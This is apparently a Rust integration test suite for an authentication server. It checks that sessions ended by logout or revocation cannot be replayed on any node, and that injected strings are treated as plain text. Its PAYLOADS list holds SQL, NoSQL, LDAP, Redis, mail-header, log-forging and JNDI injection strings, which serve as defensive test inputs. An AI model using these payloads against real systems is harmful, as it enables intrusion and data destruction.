//! Attacks on the server, on every engine.

use std::collections::BTreeSet;

use reqwest::Method;
use reqwest::header::{HeaderName, HeaderValue};
use serde_json::json;

use crate::client::{Answer, Client, PASSWORD, Pair, claims, send};
use crate::engine::{Engine, on_every_engine};
use crate::server::{Server, eventually};

on_every_engine! {
    sec_180_what_was_ended_is_not_taken_again_by_any_server_in_any_mode
    sec_207_what_looks_like_a_command_is_a_text_in_every_field
}

const COOKIES: [&str; 3] = ["countersign_access", "countersign_refresh", "countersign_csrf"];

/// How a session's tokens travel.
#[derive(Clone, Copy, Debug)]
enum Mode {
    Header,
    Cookie,
}

/// What ends a session. A changed password and a disabled account are no routes of the server yet.
#[derive(Clone, Copy, Debug)]
enum Ending {
    Logout,
    /// By its id, from another session.
    Ended,
    /// All but another session.
    AllEnded,
}

/// A session as a thief holds it: all that its client was ever sent.
#[derive(Debug)]
struct Copied {
    mode: Mode,
    csrf: String,
    /// Oldest first.
    pairs: Vec<Pair>,
}

impl Copied {
    /// A login, and two refreshes.
    async fn begin(mode: Mode, server: &Server) -> Self {
        let client = Client::new(server);
        let body = json!({
            "email": "ada@example.org", "password": PASSWORD, "cookies": matches!(mode, Mode::Cookie),
        });
        let mut copied = Self { mode, csrf: String::new(), pairs: Vec::new() };
        copied.keep(&client.post("/v1/auth/login", &body).await.expect(200));
        for _ in 0..2 {
            // A pair that was only just made would be served again.
            let jti = claims(&copied.last().access)["jti"].clone();
            let revoke = copied.with_access(&client, Method::DELETE, "/v1/auth/revoke-tokens", copied.last());
            send(revoke.json(&json!({ "tokens": [jti] }))).await.unwrap().expect(200);
            let refreshed = copied.refresh(&client, copied.last()).await.expect(200);
            copied.keep(&refreshed);
        }
        let generations: Vec<_> =
            copied.pairs.iter().map(|pair| claims(&pair.access)["gen"].as_u64()).collect();
        assert_eq!(generations, [Some(0), Some(1), Some(2)]);
        copied
    }

    fn keep(&mut self, answer: &Answer) {
        match self.mode {
            Mode::Header => self.pairs.push(answer.pair()),
            Mode::Cookie => {
                let [access, refresh, csrf] = COOKIES.map(|name| answer.cookie(name).expect(name).0);
                self.pairs.push(Pair { access, refresh });
                self.csrf = csrf;
            }
        }
    }

    fn last(&self) -> &Pair {
        self.pairs.last().unwrap()
    }

    fn id(&self) -> String {
        claims(&self.last().access)["sid"].as_str().unwrap().to_owned()
    }

    fn with_access(
        &self,
        client: &Client,
        method: Method,
        path: &str,
        pair: &Pair,
    ) -> reqwest::RequestBuilder {
        let request = client.request(method, path);
        match self.mode {
            Mode::Header => request.bearer_auth(&pair.access),
            Mode::Cookie => {
                let cookies = format!("{}={}; {}={}", COOKIES[0], pair.access, COOKIES[2], self.csrf);
                request.header("cookie", cookies).header("x-csrf-token", &self.csrf)
            }
        }
    }

    fn with_refresh(&self, client: &Client, path: &str, pair: &Pair) -> reqwest::RequestBuilder {
        let request = client.request(Method::POST, path);
        match self.mode {
            Mode::Header => request.json(&json!({ "refresh_token": pair.refresh })),
            Mode::Cookie => {
                let cookies = format!("{}={}; {}={}", COOKIES[1], pair.refresh, COOKIES[2], self.csrf);
                request.header("cookie", cookies).header("x-csrf-token", &self.csrf)
            }
        }
    }

    async fn refresh(&self, client: &Client, pair: &Pair) -> Answer {
        send(self.with_refresh(client, "/v1/auth/refresh", pair)).await.unwrap()
    }

    async fn get(&self, client: &Client, path: &str) -> Answer {
        send(self.with_access(client, Method::GET, path, self.last())).await.unwrap()
    }
}

/// The user is asked for at every request to `/me`, and at none to `/verify`, which goes by the server's view of the log
/// alone: the modes of SEC-085.
async fn sec_180_what_was_ended_is_not_taken_again_by_any_server_in_any_mode(engine: &Engine) {
    let servers = engine.nodes(2).await;
    let (here, there) = (Client::new(&servers[0]), Client::new(&servers[1]));
    here.register("ada@example.org").await;
    for mode in [Mode::Header, Mode::Cookie] {
        for ending in [Ending::Logout, Ending::Ended, Ending::AllEnded] {
            let case = format!("{mode:?}, {ending:?}");
            let other = here.login("ada@example.org").await;
            let copied = Copied::begin(mode, &servers[0]).await;
            for client in [&here, &there] {
                for path in ["/v1/auth/me", "/v1/auth/verify"] {
                    copied.get(client, path).await.expect(200);
                }
            }
            let request = match ending {
                Ending::Logout => copied.with_refresh(&here, "/v1/auth/logout", copied.last()),
                Ending::Ended => {
                    let path = format!("/v1/auth/sessions/{}", copied.id());
                    here.request(Method::DELETE, &path).bearer_auth(&other.access)
                }
                Ending::AllEnded => {
                    here.request(Method::DELETE, "/v1/auth/sessions").bearer_auth(&other.access)
                }
            };
            send(request).await.unwrap().expect(204);
            // At once where it was ended, and wherever the store is asked.
            copied.get(&here, "/v1/auth/verify").await.expect_error(401, "invalid_token");
            copied.refresh(&there, copied.last()).await.expect_error(401, "invalid_token");
            eventually(&case, async || copied.get(&there, "/v1/auth/verify").await.status == 401).await;
            for client in [&here, &there] {
                for pair in &copied.pairs {
                    for path in ["/v1/auth/me", "/v1/auth/verify", "/v1/auth/sessions"] {
                        let replayed = copied.with_access(client, Method::GET, path, pair);
                        send(replayed).await.unwrap().expect_error(401, "invalid_token");
                    }
                    copied.refresh(client, pair).await.expect_error(401, "invalid_token");
                }
                client.me(&other.access).await.expect(200);
            }
            here.logout(&other.refresh).await.expect(204);
        }
    }
    for server in servers {
        server.stop().await;
    }
}

/// What SQL, BSON, Redis, shells, LDAP, mail and logs take for more than a text.
const PAYLOADS: [&str; 14] = [
    "' OR '1'='1' --",
    "\"; DROP TABLE session; --",
    "ada'/**/UNION/**/SELECT/**/1--",
    "\\'; DELETE FROM user WHERE 1=1; #",
    "{\"$ne\":\"\"}",
    "$where:function(){return/**/true}",
    "*)(uid=*))(|(uid=*",
    "ada\r\nSET hacked 1\r\n",
    "*3\r\n$3\r\nSET\r\n$6\r\nhacked\r\n$1\r\n1\r\n",
    "ada\nBcc:everybody@example.org",
    "ada\n2026-01-01T00:00:00Z ERROR forged: the line of an attacker",
    "\u{1b}[2J\u{202e}ada",
    "%s%n%x{0}${jndi:ldap://example.org/a}",
    "ada\0hidden",
];

async fn sec_207_what_looks_like_a_command_is_a_text_in_every_field(engine: &Engine) {
    let server = engine
        .serve_with(&[("COUNTERSIGN_LOG", "debug"), ("COUNTERSIGN_TRUSTED_PROXIES", "127.0.0.1")])
        .await;
    let client = Client::new(&server);
    let ada = client.register("ada@example.org").await;
    let me = client.me(&ada.access).await.expect(200).body;
    let mut names = BTreeSet::new();
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        // One address alone would be held up after twenty names.
        let address = HeaderValue::from_str(&format!("192.0.2.{number}")).unwrap();
        let fields = [(HeaderName::from_static("x-forwarded-for"), address)];
        let builder = reqwest::Client::builder().default_headers(fields.into_iter().collect());
        let client = Client::with(builder, &server);
        accounts(&client, number, payload, &mut names).await;
        sessions(&client, payload, &ada).await;
        headers(&client, payload).await;
        // Nobody became Ada, and she is who she was.
        assert_eq!(client.me(&ada.access).await.expect(200).body, me, "{payload:?}");
    }
    // Some of them are good usernames, and each is one of its own.
    assert!(names.len() > 3, "{names:?}");
    // What is no text where a text belongs.
    for operator in
        [json!({ "$ne": "" }), json!({ "$gt": "" }), json!(["ada@example.org"]), json!(1), json!(true)]
    {
        for body in [
            json!({ "email": operator, "password": PASSWORD }),
            json!({ "email": "ada@example.org", "password": operator }),
            json!({ "username": operator, "password": PASSWORD }),
        ] {
            client.post("/v1/auth/login", &body).await.expect_error(422, "invalid_fields");
        }
        let body = json!({ "refresh_token": operator });
        client.post("/v1/auth/refresh", &body).await.expect_error(422, "invalid_fields");
        let revoke = client.request(Method::DELETE, "/v1/auth/revoke-tokens").bearer_auth(&ada.access);
        let answer = send(revoke.json(&json!({ "tokens": [operator] }))).await.unwrap();
        assert!(answer.status == 422 || answer.body["revoked"] == 0, "{answer:?}");
    }
    client.login("ada@example.org").await;
    let log = server.log();
    for line in log.lines() {
        assert!(
            !line.contains("2026-01-01T00:00:00Z ERROR"),
            "a forged line, or a text that looks like one: {line}"
        );
        assert!(!line.contains(['\u{1b}', '\u{202e}', '\r', '\0']), "signs that a terminal obeys: {line:?}");
    }
    assert!(log.lines().count() > PAYLOADS.len(), "{log}");
    server.stop().await;
}

/// As e-mail, username and password; `names` has the usernames that were taken.
async fn accounts(client: &Client, number: usize, payload: &str, names: &mut BTreeSet<String>) {
    let own = format!("eve{number}@example.org");
    for email in [payload.to_owned(), format!("{payload}@example.org"), format!("ada@{payload}")] {
        let login = client.try_login(&email, PASSWORD).await;
        assert!([401, 422].contains(&login.status), "{login:?}");
        let body = json!({ "email": email, "password": PASSWORD });
        let registered = client.post("/v1/auth/register", &body).await;
        assert!([201, 422].contains(&registered.status), "{registered:?}");
        if registered.status == 201 {
            let user = &registered.body["user"];
            assert_eq!(user["email"], email);
            assert_eq!(client.try_login(&email, PASSWORD).await.expect(200).body["user"], *user);
        }
    }
    let password = format!("{payload} as a password");
    let body = json!({ "email": own, "username": payload, "password": password });
    let mut registered = client.post("/v1/auth/register", &body).await;
    if registered.status == 422 {
        let body = json!({ "email": own, "password": password });
        registered = client.post("/v1/auth/register", &body).await;
    }
    let user = registered.expect(201).body["user"].clone();
    if !user["username"].is_null() {
        assert_eq!(user["username"], payload);
        let login = json!({ "username": payload, "password": password });
        assert_eq!(client.post("/v1/auth/login", &login).await.expect(200).body["user"], user);
        assert!(names.insert(payload.to_owned()), "{payload:?}");
    }
    client.login_with(&own, &password).await;
    client.try_login(&own, payload).await.expect_error(401, "invalid_credentials");
}

/// As a session's id, a token's id, a token and a part of the query.
async fn sessions(client: &Client, payload: &str, ada: &Pair) {
    let escaped: String = payload.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let path = format!("/v1/auth/sessions/{escaped}");
    let end = client.request(Method::DELETE, &path).bearer_auth(&ada.access);
    send(end).await.unwrap().expect_error(404, "not_found");
    let revoke = client.request(Method::DELETE, "/v1/auth/revoke-tokens").bearer_auth(&ada.access);
    let answer = send(revoke.json(&json!({ "tokens": [payload] }))).await.unwrap();
    assert!(answer.status == 422 || answer.body["revoked"] == 0, "{answer:?}");
    client.refresh(payload).await.expect_error(401, "invalid_token");
    client.logout(payload).await.expect_error(401, "invalid_token");
    let me = client.request(Method::GET, &format!("/v1/auth/me?user={escaped}")).bearer_auth(&ada.access);
    send(me).await.unwrap().expect(200);
    let scope = format!("/v1/auth/verify?scope={escaped}");
    let verify = send(client.request(Method::GET, &scope).bearer_auth(&ada.access)).await.unwrap();
    assert!([400, 403].contains(&verify.status), "{verify:?}");
}

/// As headers, where HTTP allows them there.
async fn headers(client: &Client, payload: &str) {
    let Ok(value) = HeaderValue::from_bytes(payload.as_bytes()) else { return };
    let login = client.request(Method::POST, "/v1/auth/login").header("user-agent", value.clone());
    let body = json!({ "email": "ada@example.org", "password": PASSWORD });
    let pair = send(login.json(&body)).await.unwrap().expect(200).pair();
    let list = client.request(Method::GET, "/v1/auth/sessions").bearer_auth(&pair.access);
    let listed = send(list.header("x-request-id", value.clone())).await.unwrap().expect(200);
    let newest = &listed.body["sessions"][0];
    assert_eq!(newest["current"], true);
    if payload.is_ascii() {
        assert_eq!(newest["user_agent"], payload);
    }
    for name in ["authorization", "cookie", "x-forwarded-for", "forwarded", "origin", "x-csrf-token"] {
        let me = client.request(Method::GET, "/v1/auth/me").header(name, value.clone());
        let status = send(me).await.unwrap().status;
        assert!([400, 401].contains(&status), "{name}: {status}");
    }
    client.logout(&pair.refresh).await.expect(204);
}
